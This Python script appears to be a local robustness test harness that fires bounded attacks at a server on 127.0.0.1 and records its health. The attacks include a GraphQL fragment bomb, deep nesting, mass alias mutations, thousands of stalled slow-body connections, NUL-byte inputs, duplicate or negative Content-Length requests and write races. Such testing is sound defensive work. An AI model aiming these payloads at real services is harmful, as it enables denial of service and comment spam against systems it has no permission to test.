#!/usr/bin/env python3
"""The attacks of issue 8, against a running server on 127.0.0.1, each bounded in count and time.
Prints one JSON line per attack (what was sent, what came back, how long it took, whether the
server stayed healthy) and a table at the end.

    attacks.py BASE_URL [--pid PID] [--token TOKEN] [--only name,name] [--stalled N]

`--pid` lets it read the server's RSS; `--token` (an editor's) enables the write attacks.
Only fixed requests to BASE_URL: no random URLs, nothing off 127.0.0.1.
"""
import argparse
import asyncio
import json
import os
import socket
import sys
import time
import urllib.parse

TIMEOUT = 10.0
# Attacks come from 127.0.0.1; the bystander whose service is measured, from here.
OTHER_CLIENT = "127.0.0.2"


def rss_mb(pid):
    if not pid:
        return None
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return round(int(line.split()[1]) / 1024, 1)
    except OSError:
        return None
    return None


class Target:
    def __init__(self, base):
        u = urllib.parse.urlsplit(base)
        self.host = u.hostname
        self.port = u.port or 80

    async def raw(self, data, timeout=TIMEOUT, read_all=True, source=None):
        """Sends raw bytes; returns (status, headers, body, seconds) or (None, ..) on timeout.
        `source`: the local address to send from (another client than the attacker)."""
        start = time.perf_counter()
        local = (source, 0) if source else None
        try:
            r, w = await asyncio.wait_for(
                asyncio.open_connection(self.host, self.port, local_addr=local), timeout)
        except (OSError, asyncio.TimeoutError) as e:
            return None, {}, f"connect failed: {e}".encode(), time.perf_counter() - start
        try:
            w.write(data)
            await w.drain()
            head = await asyncio.wait_for(r.readuntil(b"\r\n\r\n"), timeout)
            lines = head.decode("latin-1").split("\r\n")
            status = int(lines[0].split()[1])
            headers = {}
            for l in lines[1:]:
                if ":" in l:
                    k, v = l.split(":", 1)
                    headers[k.strip().lower()] = v.strip()
            body = b""
            if read_all and "content-length" in headers:
                n = int(headers["content-length"])
                body = await asyncio.wait_for(r.readexactly(n), timeout) if n else b""
            elif read_all and headers.get("transfer-encoding") == "chunked":
                while True:
                    size = int((await asyncio.wait_for(r.readline(), timeout)).strip(), 16)
                    if size == 0:
                        break
                    body += await asyncio.wait_for(r.readexactly(size + 2), timeout)
            return status, headers, body, time.perf_counter() - start
        except (asyncio.TimeoutError, asyncio.IncompleteReadError, ConnectionError, ValueError) as e:
            return None, {}, repr(e).encode(), time.perf_counter() - start
        finally:
            w.close()

    async def request(self, method, path, body=None, headers=None, timeout=TIMEOUT, source=None):
        headers = dict(headers or {})
        data = b""
        if body is not None:
            data = body if isinstance(body, bytes) else json.dumps(body).encode()
            headers.setdefault("Content-Type", "application/json")
        headers["Content-Length"] = str(len(data))
        head = f"{method} {path} HTTP/1.1\r\nHost: {self.host}:{self.port}\r\nConnection: close\r\n"
        head += "".join(f"{k}: {v}\r\n" for k, v in headers.items())
        return await self.raw(head.encode() + b"\r\n" + data, timeout, source=source)

    async def health_ms(self):
        """`/healthz` as another client (127.0.0.2) sees it while the attacks run."""
        status, _, _, took = await self.request("GET", "/healthz", timeout=5, source=OTHER_CLIENT)
        return round(took * 1000, 1) if status == 200 else None


def gql(query, variables=None):
    return {"query": query, "variables": variables or {}}


async def fragment_bomb(t, args):
    k = 30
    frags = "fragment F0 on Query { __typename } " + " ".join(
        f"fragment F{i} on Query {{ ...F{i-1} ...F{i-1} }}" for i in range(1, k + 1)
    )
    body = gql(f"query {{ ...F{k} }} {frags}")
    req = asyncio.create_task(t.request("POST", "/graphql", body, timeout=15))
    await asyncio.sleep(0.5)
    during = [await t.health_ms() for _ in range(3)]
    status, headers, resp, took = await req
    return {
        "status": status,
        "seconds": round(took, 3),
        "code": _gql_code(resp),
        "healthz_ms_during": during,
    }


def _gql_code(resp):
    try:
        return json.loads(resp)["errors"][0]["extensions"]["code"]
    except Exception:
        return None


async def deep_nesting(t, args):
    # Selection sets nested far past any sane depth, and a deeply nested list value.
    q = "{" + "a{" * 5000 + "b" + "}" * 5001
    s1, _, r1, t1 = await t.request("POST", "/graphql", gql(q))
    v = "{ articles(filter: " + "[" * 5000 + "]" * 5000 + ") { totalCount } }"
    s2, _, r2, t2 = await t.request("POST", "/graphql", gql(v))
    return {"selections": [s1, round(t1, 3)], "list_value": [s2, round(t2, 3)],
            "healthz_ms": await t.health_ms()}


async def aliases(t, args):
    slug = args.slug
    muts = " ".join(
        f'c{i}: addComment(input: {{articleSlug: "{slug}", authorName: "A", authorEmail: "a@example.com", body: "spam {i}"}}) {{ id }}'
        for i in range(1000)
    )
    s1, _, r1, t1 = await t.request("POST", "/graphql", gql(f"mutation {{ {muts} }}"))
    created = 0
    try:
        created = sum(1 for v in (json.loads(r1).get("data") or {}).values() if v)
    except Exception:
        pass
    views = " ".join(f'v{i}: recordView(slug: "no-such-article-{i % 7}")' for i in range(10000))
    s2, _, r2, t2 = await t.request("POST", "/graphql", gql(f"mutation {{ {views} }}"))
    return {
        "add_comment_x1000": {"status": s1, "seconds": round(t1, 3), "created": created,
                              "code": _gql_code(r1)},
        "record_view_x10000": {"status": s2, "seconds": round(t2, 3), "bytes": len(r2),
                               "code": _gql_code(r2)},
    }


async def stalled_bodies(t, args):
    n = args.stalled
    before = rss_mb(args.pid)
    conns = []
    opened = 0
    for i in range(n):
        try:
            r, w = await asyncio.open_connection(t.host, t.port)
        except OSError:
            break
        if i % 2:
            w.write(b"POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                    b"Transfer-Encoding: chunked\r\n\r\n10\r\n{\"query\": \"{ __t")
        else:
            w.write(b"POST /api/v1/articles/x/comments HTTP/1.1\r\nHost: x\r\n"
                    b"Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n{\"a")
        conns.append((r, w))
        opened += 1
    await asyncio.sleep(1)
    during = [await t.health_ms() for _ in range(5)]
    article = await t.request("GET", f"/api/v1/articles/{args.slug}", timeout=5,
                              source=OTHER_CLIENT)
    peak = rss_mb(args.pid)
    # How long the server keeps them: wait up to 30 s for it to close (or answer) each one.
    start = time.perf_counter()

    answers = {}

    async def closed_after(r):
        try:
            data = await asyncio.wait_for(r.read(65536), 30)
            status = data.split(b" ", 2)[1].decode() if data.startswith(b"HTTP/") else "closed"
            answers[status] = answers.get(status, 0) + 1
            return time.perf_counter() - start
        except (asyncio.TimeoutError, ConnectionError):
            return None

    waits = await asyncio.gather(*(closed_after(r) for r, _ in conns))
    still_open = sum(1 for w in waits if w is None)
    for _, w in conns:
        w.close()
    await asyncio.sleep(3)
    after = rss_mb(args.pid)
    done = sorted(w for w in waits if w is not None)
    return {
        "opened": opened,
        "healthz_ms_during": during,
        "article_during": [article[0], round(article[3] * 1000, 1)],
        "answers": answers,
        "server_closed_them_within_s": round(done[-1], 1) if done else None,
        "still_open_after_30s": still_open,
        "rss_mb": {"before": before, "peak": peak, "after": after},
        "healthz_ms_after": await t.health_ms(),
    }


def nul_requests(slug):
    enc = urllib.parse.quote
    paths = [
        ("GET", "/api/v1/articles/%00", None),
        ("GET", "/api/v1/articles/a%00b/related", None),
        ("GET", "/api/v1/tags/%00", None),
        ("GET", "/api/v1/authors/%00", None),
        ("POST", "/api/v1/articles/%00/views", None),
        ("GET", "/api/v1/articles/%00/comments", None),
        ("GET", "/api/v1/articles?q=" + enc("a\0b"), None),
        ("GET", "/api/v1/articles?tag=" + enc("\0"), None),
        ("GET", "/api/v1/articles?cursor=" + enc("\0"), None),
        ("PATCH", "/api/v1/comments/%00", {"status": "approved"}),
        ("POST", f"/api/v1/articles/{slug}/comments",
         {"author_name": "A\u0000", "author_email": "a@example.com", "body": "x"}),
        ("POST", f"/api/v1/articles/{slug}/comments",
         {"author_name": "A", "author_email": "a@example.com", "body": "x\u0000y"}),
        ("POST", "/api/v1/auth/login", {"email": "a\u0000@example.com", "password": "x"}),
        ("POST", "/graphql", gql('{ article(slug: "\\u0000") { id } }')),
        ("POST", "/graphql", gql('query($s: String!) { tag(slug: $s) { id } }', {"s": "\u0000"})),
        ("POST", "/graphql", gql('{ articles(filter: {q: "a\\u0000"}) { totalCount } }')),
    ]
    return paths


def nul_writes(slug):
    return [
        ("POST", "/api/v1/articles", {"title": "T\u0000", "body": "b"}),
        ("POST", "/api/v1/articles", {"title": "T", "body": "b\u0000"}),
        ("POST", "/api/v1/articles", {"title": "T", "body": "b", "image": {"url": "https://e.com/a.png", "credit": "\u0000"}}),
        ("POST", "/api/v1/articles", {"title": "T", "body": "b", "slug": "a\u0000"}),
        ("PATCH", f"/api/v1/articles/{slug}", {"dateline": "\u0000"}),
        ("POST", "/api/v1/tags", {"name": "N\u0000"}),
        ("PATCH", "/api/v1/me", {"bio": "\u0000"}),
        ("POST", "/api/v1/users", {"email": "n@example.com", "name": "\u0000", "role": "author", "password": "long enough password"}),
        ("POST", "/graphql", gql('mutation { createTag(input: {name: "x\\u0000"}) { id } }')),
    ]


async def nul_bytes(t, args):
    out = {}
    reqs = nul_requests(args.slug)
    if args.token:
        reqs += [(m, p, b, True) for m, p, b in nul_writes(args.slug)]
    for item in reqs:
        method, path, body = item[:3]
        headers = {"Authorization": f"Bearer {args.token}"} if len(item) > 3 else {}
        raw = body if body is None else json.dumps(body).encode()
        status, h, resp, _ = await t.request(method, path, raw, headers)
        key = f"{method} {path} {json.dumps(body)[:60] if body else ''}".strip()
        out[key] = status
    fives = sum(1 for s in out.values() if s is None or s >= 500)
    return {"requests": len(out), "5xx": fives,
            "statuses": sorted(set(str(s) for s in out.values())), "detail": out}


async def writers(t, args):
    if not args.token:
        return {"skipped": "needs --token"}
    auth = {"Authorization": f"Bearer {args.token}"}
    deadline = time.perf_counter() + args.writer_seconds
    counts = {}
    run_id = int(time.time() * 1000) % 1000000

    async def writer(n):
        i = 0
        while time.perf_counter() < deadline:
            i += 1
            kind = i % 3
            if kind == 0:
                s, *_ = await t.request("POST", "/api/v1/tags", {"name": f"w{run_id} {n} {i}"}, auth)
            elif kind == 1:
                s, *_ = await t.request("POST", "/api/v1/articles",
                                        {"title": f"Writer {run_id} {n} {i}", "body": "Body."}, auth)
            else:
                s, *_ = await t.request("POST", f"/api/v1/articles/{args.slug}/comments",
                                        {"author_name": "W", "author_email": "w@example.com",
                                         "body": f"c {n} {i}"}, auth)
            counts[s] = counts.get(s, 0) + 1

    await asyncio.gather(*(writer(n) for n in range(args.writers)))
    fives = sum(v for k, v in counts.items() if k is None or k >= 500)
    return {"writers": args.writers, "seconds": args.writer_seconds,
            "requests": sum(counts.values()), "5xx": fives,
            "statuses": {str(k): v for k, v in counts.items()}}


async def slug_race(t, args):
    if not args.token:
        return {"skipped": "needs --token"}
    auth = {"Authorization": f"Bearer {args.token}"}
    title = f"Race {int(time.time() * 1000)}"
    res = await asyncio.gather(*(
        t.request("POST", "/api/v1/articles", {"title": title, "body": "b"}, auth) for _ in range(16)
    ))
    statuses = {}
    slugs = set()
    for s, _, body, _ in res:
        statuses[str(s)] = statuses.get(str(s), 0) + 1
        if s == 201:
            slugs.add(json.loads(body)["slug"])
    return {"creates": 16, "statuses": statuses, "unique_slugs": len(slugs)}


async def protocol_errors(t, args):
    cases = {
        "two content-lengths": b"POST /api/v1/articles HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
        "negative content-length": b"POST /api/v1/articles HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
        "100+ headers": b"GET /healthz HTTP/1.1\r\nHost: x\r\n" + b"".join(b"X-H%d: v\r\n" % i for i in range(120)) + b"\r\n",
        "http/0.9": b"GET /healthz\r\n\r\n",
        "100 KB url": b"GET /api/v1/articles?q=" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
        "body over limit": b"POST /api/v1/articles HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 50000000\r\n\r\n{",
        "graphql body over limit": b"POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 50000000\r\n\r\n{",
    }
    out = {}
    for name, data in cases.items():
        status, headers, body, took = await t.raw(data, timeout=15)
        out[name] = {"status": status, "content_type": headers.get("content-type"),
                     "body_bytes": len(body) if status else None, "seconds": round(took, 2)}
    out["healthz_ms_after"] = await t.health_ms()
    return out


ATTACKS = {
    "fragment_bomb": fragment_bomb,
    "deep_nesting": deep_nesting,
    "aliases": aliases,
    "nul_bytes": nul_bytes,
    "protocol_errors": protocol_errors,
    "slug_race": slug_race,
    "writers": writers,
    "stalled_bodies": stalled_bodies,
}


async def main():
    p = argparse.ArgumentParser()
    p.add_argument("base")
    p.add_argument("--pid", type=int)
    p.add_argument("--token")
    p.add_argument("--slug", default=None, help="a published article's slug")
    p.add_argument("--only", default="")
    p.add_argument("--stalled", type=int, default=2000)
    p.add_argument("--writers", type=int, default=64)
    p.add_argument("--writer-seconds", type=float, default=20)
    args = p.parse_args()
    t = Target(args.base)
    if not args.slug:
        _, _, body, _ = await t.request("GET", "/api/v1/articles?per_page=1")
        args.slug = json.loads(body)["data"][0]["slug"]
    only = [x for x in args.only.split(",") if x]
    results = {}
    for name, attack in ATTACKS.items():
        if only and name not in only:
            continue
        res = await attack(t, args)
        res["healthy_after"] = await t.health_ms() is not None
        results[name] = res
        print(json.dumps({name: res}), flush=True)
    return results


if __name__ == "__main__":
    asyncio.run(main())
